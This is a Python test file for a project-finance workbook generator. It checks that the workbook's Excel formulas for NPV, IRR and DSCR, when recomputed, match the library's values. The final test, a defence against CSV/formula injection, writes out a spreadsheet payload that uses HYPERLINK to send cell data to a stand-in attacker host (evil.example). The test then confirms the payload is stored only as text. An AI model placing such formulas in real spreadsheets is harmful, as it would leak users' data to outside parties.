"""The bank workbook: live formulas recomputed by an independent evaluator match the library.

The ``formulas`` package (a Python Excel formula engine, independent of openpyxl and of this
package) loads the written .xlsx and recomputes every formula cell; the summary's NPV, IRR and
DSCR formulas must give the library's values to 1e-6.
"""

from __future__ import annotations

import math
from pathlib import Path

import formulas
import openpyxl
import pytest

from eip_analysis import appraise, load_case
from eip_analysis.cases import load_case as load
from eip_analysis.cli import main
from eip_analysis.financing import appraise_financing
from eip_analysis.workbook import build_workbook, write_workbook

from .conftest import MINI

YRS = {"unit": "yr", "source": "assumption: fixture"}


def _recompute(path: Path, inputs: dict[str, float] | None = None) -> dict[str, object]:
    """Every cell of the workbook recomputed by ``formulas``: ``{"SUMMARY!B12": value}``."""
    model = formulas.ExcelModel().loads(str(path)).finish()
    prefix = f"'[{path.name}]"
    solution = model.calculate(inputs={f"{prefix}{k.split('!')[0].upper()}'!{k.split('!')[1]}": v
                                       for k, v in (inputs or {}).items()})
    out = {}
    for key, value in solution.items():
        if hasattr(value, "value"):
            out[key.split("]")[-1].replace("'", "").upper()] = value.value[0][0]
    return out


def _check(path: Path, expected: dict[str, float]) -> dict[str, object]:
    got = _recompute(path)
    assert expected, "no live formula to check"
    for cell, library in expected.items():
        value = got[cell.upper()]
        assert isinstance(value, float | int), f"{cell}: {value!r}"
        assert value == pytest.approx(library, rel=1e-9, abs=1e-6), cell
    return got


@pytest.fixture
def mini():
    return load_case(MINI)


class TestLiveFormulas:
    def test_mini_summary_formulas_match_the_library(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path / "MINI-01.xlsx")
        _, expected = build_workbook(mini)
        _check(path, expected)
        a, fa = appraise(mini), appraise_financing(mini)
        library = set(expected.values())
        for v in (a.npv_usd, a.irr, a.supplier_npv_usd, fa.equity_npv_usd, fa.equity_irr,
                  fa.min_dscr, fa.average_dscr, fa.project_npv_after_tax_usd):
            assert v in library
        assert len(expected) == 12

    def test_formulas_are_formulas(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path)
        ws = openpyxl.load_workbook(path)["Summary"]
        column = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value
                  for r in range(1, ws.max_row + 1)}
        npv = column["Project NPV (before financing and tax, real)"]
        assert npv.startswith("=NPV(Summary!$B$5,'Cash flows'!") and npv.endswith("+'Cash flows'!G3")
        assert column["Project IRR (real)"].startswith("=IRR(")
        assert column["Minimum DSCR"].startswith("=MIN('Financing'!")
        notes = " ".join(str(ws.cell(row=r, column=1).value) for r in range(1, ws.max_row + 1))
        assert "Year-0 convention" in notes and "Excel's NPV" in notes

    def test_a_changed_input_cell_flows_through(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path)
        got = _recompute(path, {"Summary!B5": 0.08})
        assert got["SUMMARY!B12"] == pytest.approx(appraise(mini, discount_rate=0.08).npv_usd,
                                                   rel=1e-9)

    def test_construction_years_capitalised_interest_and_incentive(self, write_case,
                                                                   mini_data, tmp_path):
        # Capex over years 0 and 1, operation from year 2, VEPF-style annuity loan and a CIT
        # incentive: the loan, tax and DSCR formulas still reproduce the library.
        mini_data["operation_start_year"] = 2
        mini_data["capex"].append({"name": "boiler_feed", "description": "Feed system",
                                   "party": "receiver", "year": 1,
                                   "amount": {"value": 20_000, "unit": "USD",
                                              "source": "assumption: fixture"}})
        mini_data["financing"] = {
            "lender": "Viet Nam Environment Protection Fund", "repayment": "annuity",
            "debt_share": {"value": 0.7, "unit": "fraction", "source": "VEPF up to 70%"},
            "interest_rate": {"value": 0.036, "unit": "1/yr", "source": "VEPF 3.6%/yr"},
            "tenor_years": {"value": 8, **YRS}, "grace_years": {"value": 2, **YRS}}
        mini_data["tax"] = {"incentive": {
            "basis": "Law on CIT arts. 13-14 (fixture)",
            "preferential_rate": {"value": 0.10, "unit": "fraction", "source": "CIT art. 13"},
            "exempt_years": {"value": 4, **YRS}, "reduced_years": {"value": 9, **YRS},
            "reduction": {"value": 0.5, "unit": "fraction", "source": "CIT art. 14"}}}
        case = load(write_case(mini_data))
        fa = appraise_financing(case)
        assert fa.table["capitalised_interest_usd"].sum() > 0
        path = write_workbook(case, tmp_path)
        _, expected = build_workbook(case)
        got = _check(path, expected)
        ws = openpyxl.load_workbook(path)["Loan"]
        heads = [c.value for c in ws[1]]
        closing = heads.index("Closing balance")
        last = fa.table["year"].iloc[-1]
        assert got[f"LOAN!{openpyxl.utils.get_column_letter(closing + 1)}{3 + last}"] == \
            pytest.approx(0, abs=1e-6)

    # Every project case: a repaid loan's 1e-12 residue once blew DSCR cells up to ~1e16.
    @pytest.mark.parametrize("case_id", [f"HK-0{i}" for i in range(1, 7)]
                             + [f"TN-0{i}" for i in range(1, 7)])
    def test_project_cases(self, case_id, tmp_path):
        case = load_case(case_id)
        path = write_workbook(case, tmp_path)
        _, expected = build_workbook(case)
        _check(path, expected)


class TestContents:
    def test_assumptions_list_every_input_with_its_source(self, mini, tmp_path):
        ws = openpyxl.load_workbook(write_workbook(mini, tmp_path))["Assumptions"]
        rows = {r[1]: r for r in ws.iter_rows(min_row=2, values_only=True)}
        for path, q, _ in mini.quantities():
            assert rows[path][2] == q.value and rows[path][7] == q.source
        for name in ("discount_rate", "inflation_rate", "loan_interest_rate", "tax_rate"):
            assert len(rows[f"parameters.{name}"][7]) > 10

    def test_run_overrides_of_an_appraisal_are_kept(self, mini, tmp_path):
        path = write_workbook(appraise(mini, discount_rate=0.08), tmp_path)
        ws = openpyxl.load_workbook(path)["Summary"]
        assert ws["B5"].value == 0.08

    def test_no_debt_says_so(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path, debt_share=0.0)
        ws = openpyxl.load_workbook(path)["Summary"]
        values = [ws.cell(row=r, column=2).value for r in range(12, 24)]
        assert values.count("no debt") == 2
        _, expected = build_workbook(mini, debt_share=0.0)
        assert all(not math.isnan(v) for v in expected.values())


class TestCommand:
    def test_writes_one_file_per_case_atomically(self, tmp_path, capsys):
        out = tmp_path / "wb"
        assert main(["workbook", "MINI-01", "--cases", str(MINI.parent),
                     "--output", str(out)]) == 0
        assert [p.name for p in out.iterdir()] == ["MINI-01.xlsx"]  # no temporary file left
        assert "wrote" in capsys.readouterr().out

    def test_unknown_case_is_one_line(self, tmp_path, capsys):
        assert main(["workbook", "NOPE-01", "--cases", str(MINI.parent),
                     "--output", str(tmp_path)]) == 1
        err = capsys.readouterr().err.strip()
        assert "\n" not in err and "MINI-01" in err


def _every_text_field(data, text, path):
    """Set every text field of a case's data that accepts free text to ``text`` (a field whose
    validation refuses it, an id or a category, keeps its value); writes the case to ``path``."""
    import yaml

    from eip_analysis.errors import InputError

    from .conftest import each_mapping

    fields = []
    each_mapping(data, lambda d: fields.extend((d, k) for k, v in d.items()
                                               if isinstance(v, str)))
    for d, k in fields:
        old = d[k]
        d[k] = text + (" (source)" if k == "source" else "")
        path.write_text(yaml.safe_dump(data, sort_keys=False))
        try:
            load_case(path)
        except InputError:
            d[k] = old
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return sum(1 for d, k in fields if str(d[k]).startswith(text))


def test_case_text_never_becomes_a_formula(tmp_path):
    """OWASP CSV injection: case text that starts with = + - @ is text in every cell."""
    import copy

    import yaml

    data = yaml.safe_load(MINI.read_text())
    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    crafted = copy.deepcopy(data)
    path = tmp_path / "MINI-01.yaml"
    assert _every_text_field(crafted, attack, path) >= 10
    wb, _ = build_workbook(appraise(load_case(path)))
    written_as_text = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "HYPERLINK" not in str(cell.value), (ws.title, cell.coordinate)
                elif isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    written_as_text += 1
    assert written_as_text >= 5  # the text is there, as text
    out = tmp_path / "book.xlsx"
    wb.save(out)
    again = openpyxl.load_workbook(out)
    assert not [c for ws in again.worksheets for r in ws.iter_rows() for c in r
                if c.data_type == "f" and "HYPERLINK" in str(c.value)]
